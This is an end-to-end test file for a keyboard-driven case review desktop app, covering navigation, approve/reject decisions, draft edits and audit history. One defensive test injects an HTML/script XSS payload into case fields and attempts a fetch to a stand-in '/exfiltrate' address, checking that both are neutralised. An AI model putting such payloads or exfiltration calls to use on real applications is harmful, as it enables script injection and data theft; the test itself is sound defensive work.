import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openDatabase } from '../../electron/services/db/connection'
import { DATABASE_FILE } from '../../electron/services/app-services'
import { rejectReasonsFor } from '../../shared/domain/reject-reasons'
import { generateBundle } from '../fixtures/case-generator'
import { readDecisionRows } from '../fixtures/sqlite'
import { makeTempDir } from '../fixtures/temp-dir'
import { createDriver, type AppSession, type Driver } from './driver'
import { confirmOnceSeen } from './review-steps'
import { LOOK_MS } from './os-keys'
import { importIntoCache } from '../fixtures/cache-file'

// Every step here is a key press, as a reviewer works: no clicks, no mouse.

const screenshots = join(__dirname, '../../test-results')
mkdirSync(screenshots, { recursive: true })

let driver: Driver
beforeAll(async () => {
  driver = await createDriver()
})
afterAll(async () => {
  await driver.close()
})

async function openFresh(prepare?: (dataDir: string) => void): Promise<{ session: AppSession; remove(): void }> {
  const dir = makeTempDir('countersign-e2e-')
  prepare?.(dir.path)
  const session = await driver.open(dir.path)
  await session.page.waitForSelector('[data-seen-case]')
  return { session, remove: dir.remove }
}

/** The title of the case open now, read from the screen. */
const openTitle = (session: AppSession) => session.page.locator('.case-title').innerText()

async function waitForCase(session: AppSession, title: string) {
  await session.page.waitForFunction((expected) => document.querySelector('.case-title')?.textContent === expected, title)
  await session.page.waitForSelector('[data-seen-case]')
}

describe(`review from the keyboard (${process.env['COUNTERSIGN_E2E_DRIVER'] ?? 'auto'} driver)`, () => {
  it('opens the demo, moves with j, approves with a, rejects with r and a number; both are stored', async () => {
    const { session, remove } = await openFresh()
    const { page } = session
    try {
      await expect(page.locator('.app-bar .badge-demo').innerText()).resolves.toBe('Demo')
      const pendingBefore = Number(await page.getByTestId('pending-count').locator('strong').innerText())
      expect(pendingBefore).toBeGreaterThanOrEqual(60)
      await page.screenshot({ path: join(screenshots, 'review-screen.png') })
      await page.emulateMedia({ colorScheme: 'dark' })
      await page.screenshot({ path: join(screenshots, 'review-screen-dark.png') })
      await page.emulateMedia({ colorScheme: 'light' })

      const titles = await page.locator('.queue-row-title').allInnerTexts()
      await page.keyboard.press('j')
      await page.keyboard.press('j')
      await waitForCase(session, titles[2]!)
      await page.keyboard.press('a')
      // An irreversible or customer-facing case asks for the key once more.
      await page.waitForSelector('.confirm-strip, .status-saved')
      if (await page.locator('.confirm-strip').isVisible()) await confirmOnceSeen(page, 'a')
      await page.waitForSelector('.status-saved')
      const approvedTitle = titles[2]!

      // The queue closed up: the next case is now where the approved one was.
      await waitForCase(session, titles[3]!)
      const rejectedTitle = await openTitle(session)
      await page.keyboard.press('r')
      await page.getByRole('dialog').waitFor()
      await page.screenshot({ path: join(screenshots, 'reject-reasons.png') })
      const secondReason = (await page.locator('.picker-options li').nth(1).innerText()).replace(/^2\s*/, '')
      await page.waitForTimeout(LOOK_MS)
      await page.keyboard.press('2')
      await page.getByRole('dialog').waitFor({ state: 'detached' })
      await page.waitForFunction(() => document.querySelector('.status-saved')?.textContent?.includes('Rejected'))

      await expect(page.getByTestId('pending-count').locator('strong').innerText()).resolves.toBe(String(pendingBefore - 2))
      await expect(page.getByTestId('decided-count').locator('strong').innerText()).resolves.toBe('2')
      await page.screenshot({ path: join(screenshots, 'review-after-decisions.png') })

      const rows = readDecisionRows(session.dataDir)
      expect(rows).toHaveLength(2)
      const [approve, reject] = rows.map((row) => row.record)
      // `a` takes the proposal: approve, or for an exception its recommended option.
      expect(['approve', 'choose-option']).toContain(approve!.outcome)
      expect(approve!.edits).toEqual([])
      expect(reject).toMatchObject({ outcome: 'reject' })
      const db = openDatabase(join(session.dataDir, DATABASE_FILE))
      const titleOf = (caseId: string) => db.prepare<[string], { title: string; body: string }>('SELECT title, body FROM cases WHERE id = ?').get(caseId)!
      expect(titleOf(approve!.caseId).title).toBe(approvedTitle)
      const rejected = titleOf(reject!.caseId)
      expect(rejected.title).toBe(rejectedTitle)
      const reasons = rejectReasonsFor(JSON.parse(rejected.body))
      expect(reasons[1]!.label).toBe(secondReason)
      expect(reject!.reasonCode).toBe(reasons[1]!.code)
      db.close()
    } finally {
      await session.close()
      remove()
    }
  })

  it('keeps the selected row in view as j moves past the rows on screen and k comes back', async () => {
    const { session, remove } = await openFresh()
    const { page } = session
    /** Whether the selected row lies wholly inside the queue's scrolled viewport. */
    const selectedInView = () =>
      page.evaluate(() => {
        const viewport = document.querySelector('.queue-scroll')!.getBoundingClientRect()
        const row = document.querySelector('.queue-row.selected')?.getBoundingClientRect()
        return row !== undefined && row.top >= viewport.top - 1 && row.bottom <= viewport.bottom + 1
      })
    try {
      const rowsOnScreen = await page.evaluate(() => Math.floor(document.querySelector('.queue-scroll')!.clientHeight / 64))
      for (let i = 0; i < rowsOnScreen * 2; i++) await page.keyboard.press('j')
      await page.waitForFunction((index) => document.querySelector('.queue-row.selected')?.getAttribute('style')?.includes(`translateY(${index * 64}px)`), rowsOnScreen * 2)
      await page.waitForFunction(() => document.querySelector('.queue-scroll')!.scrollTop > 0)
      await expect.poll(selectedInView).toBe(true)
      for (let i = 0; i < rowsOnScreen * 2; i++) await page.keyboard.press('k')
      await page.waitForFunction(() => document.querySelector('.queue-row.selected')?.getAttribute('style')?.includes('translateY(0px)'))
      await expect.poll(selectedInView).toBe(true)
      await expect.poll(() => page.evaluate(() => document.querySelector('.queue-scroll')!.scrollTop)).toBe(0)
    } finally {
      await session.close()
      remove()
    }
  })

  it('shows each diff case in an editor that fills the space under its bars, whatever kind came before', async () => {
    const { session, remove } = await openFresh()
    const { page } = session
    /** The heights of the diff area, of the editor shown in it, and of that editor's source side as Monaco laid it out. */
    const heights = () =>
      page.evaluate(() => {
        const height = (selector: string) => Math.round(document.querySelector(selector)?.getBoundingClientRect().height ?? -1)
        return [height('.diff-editor'), height('.diff-slot.front'), height('.diff-slot.front .editor.original')]
      })
    try {
      // The demo queue mixes every kind: its diff cases follow other kinds, and each other, with bars of other heights.
      const kinds = new Set<string>()
      let diffCasesSeen = 0
      for (let i = 0; i < 15; i++) {
        await page.keyboard.press('j')
        // The case of the selected row, once painted.
        await page.waitForFunction((index) => {
          const row = document.querySelector('.queue-row.selected')
          const painted = document.querySelector('[data-painted-case]')?.getAttribute('data-painted-case')
          return row?.getAttribute('style')?.includes(`translateY(${index * 64}px)`) && row.id === `queue-row-${painted}`
        }, i + 1)
        const kind = (await page.locator('.case-view').getAttribute('data-kind'))!
        kinds.add(kind)
        if (kind !== 'text-approval' && kind !== 'exception') continue
        diffCasesSeen += 1
        const area = (await heights())[0]!
        await expect.poll(heights, { message: `${kind} case ${i + 1}: the diff area, the editor shown and its source side`, timeout: 2_000 }).toEqual([area, area, area])
        expect(area).toBeGreaterThan(100)
        // The editor behind it, preparing the next case, is out of reach of focus and of screen readers.
        const behind = await page.evaluate(() =>
          [...document.querySelectorAll<HTMLElement>('.diff-slot:not(.front)')].map((slot) => {
            const area = slot.querySelector('textarea')
            area?.focus()
            return { ariaHidden: slot.getAttribute('aria-hidden'), visibility: getComputedStyle(slot).visibility, focused: area !== null && document.activeElement === area }
          })
        )
        expect(behind, `${kind} case ${i + 1}: the editor behind`).toEqual([{ ariaHidden: 'true', visibility: 'hidden', focused: false }])
      }
      expect(diffCasesSeen).toBeGreaterThanOrEqual(3)
      expect(kinds.size).toBeGreaterThanOrEqual(4)
    } finally {
      await session.close()
      remove()
    }
  })

  it('edits a draft with e, leaves with Esc, and approving records the edit', async () => {
    const { session, remove } = await openFresh()
    const { page } = session
    try {
      // Walk down with j to the first text draft in the queue.
      const kinds = await page.locator('.queue-row .kind-chip').allInnerTexts()
      const titles = await page.locator('.queue-row-title').allInnerTexts()
      const draftIndex = kinds.indexOf('Text approval')
      expect(draftIndex).toBeGreaterThanOrEqual(0)
      for (let step = 0; step < draftIndex; step++) await page.keyboard.press('j')
      await waitForCase(session, titles[draftIndex]!)
      await page.keyboard.press('e')
      await page.keyboard.press('Control+End')
      await page.keyboard.type('\nP.S. Your refund reference is RF-1234.')
      // A screen reader reads the draft through the editor's text area, which holds the lines around the cursor.
      await expect(page.evaluate(() => (document.activeElement as HTMLTextAreaElement).value)).resolves.toContain('P.S. Your refund reference is RF-1234.')
      await page.keyboard.press('Escape')
      await page.waitForSelector('.edited')
      await page.screenshot({ path: join(screenshots, 'draft-edited.png') })
      // `a` outside the editor approves (twice: the reply goes to a customer); inside it would type.
      await page.keyboard.press('a')
      await confirmOnceSeen(page, 'a')
      await page.waitForFunction(() => document.querySelector('.status-saved')?.textContent?.includes('Approved with edits'))
      const [row] = readDecisionRows(session.dataDir)
      expect(row!.outcome).toBe('approve-with-edits')
      expect(row!.record.edits).toHaveLength(1)
      expect(row!.record.edits[0]!.field).toBe('text')
      expect(row!.record.edits[0]!.new).toBe(`${row!.record.edits[0]!.old}\nP.S. Your refund reference is RF-1234.`)

      // Its audit view: the chain verified, the edit as a diff, the signature valid.
      await page.keyboard.press('g')
      await page.keyboard.press('a')
      await page.getByTestId('chain-status').filter({ hasText: '1 decision record verified' }).waitFor()
      await page.keyboard.press('Enter')
      const entry = page.getByTestId('history-entry')
      await entry.waitFor()
      await expect(entry.getByTestId('signature-status').innerText()).resolves.toMatch(/^✓ Signature valid — key [\w-]{4}( [\w-]{1,4})+$/)
      await expect(entry.locator('.edit-diff ins').innerText()).resolves.toContain('P.S. Your refund reference is RF-1234.')
      // The part edited is named as the case view names it, not by its path (`text`).
      await expect(entry.locator('.edit-field').innerText()).resolves.toBe('The draft')
      await expect(entry.locator('.history-head').innerText()).resolves.toMatch(/^Approved with edits by harness-reviewer/)
      await page.screenshot({ path: join(screenshots, 'audit-case-history.png') })
      await page.keyboard.press('Escape')
      await page.getByTestId('history-entry').waitFor({ state: 'detached' })
    } finally {
      await session.close()
      remove()
    }
  })

  it('shows HTML and script in case content as text and never runs it', async () => {
    const hostile = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
    const { session, remove } = await openFresh((dataDir) => {
      const bundle = generateBundle({ count: 1, seed: 3, idPrefix: 'hostile', workspace: { id: 'hostile', name: 'Hostile <b>bundle</b>' } })
      const reviewCase = bundle.cases[0]!
      reviewCase.title = `Ticket ${hostile}`
      reviewCase.decisionNeeded = `Decide ${hostile}`
      reviewCase.source.text = `${hostile}\n${reviewCase.source.text}`
      reviewCase.ownership.dueAt = '2020-01-01T00:00:00Z'
      const file = join(dataDir, 'hostile.json')
      writeFileSync(file, JSON.stringify(bundle))
      importIntoCache(dataDir, bundle)
    })
    const { page } = session
    try {
      await waitForCase(session, `Ticket ${hostile}`)
      await expect(page.locator('.decision-needed').innerText()).resolves.toBe(`Decide ${hostile}`)
      await expect(page.locator('.workspace-name').innerText()).resolves.toContain('Hostile <b>bundle</b>')
      await expect(page.locator('.case-view img, .case-view script, .queue img, .app-bar b').count()).resolves.toBe(0)
      // Wherever Monaco wraps the line, it is the text itself.
      await expect(page.locator('.diff-editor').innerText().then((text) => text.replaceAll('\n', ''))).resolves.toContain('<script>window.__pwned=2</script>')
      await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined()
      // The CSP lets nothing reach the network, and would refuse injected inline script.
      await expect(page.evaluate(() => fetch('http://203.0.113.7/exfiltrate').then(() => 'sent', () => 'blocked'))).resolves.toBe('blocked')
      await page.screenshot({ path: join(screenshots, 'hostile-content-as-text.png') })
    } finally {
      await session.close()
      remove()
    }
  })
})
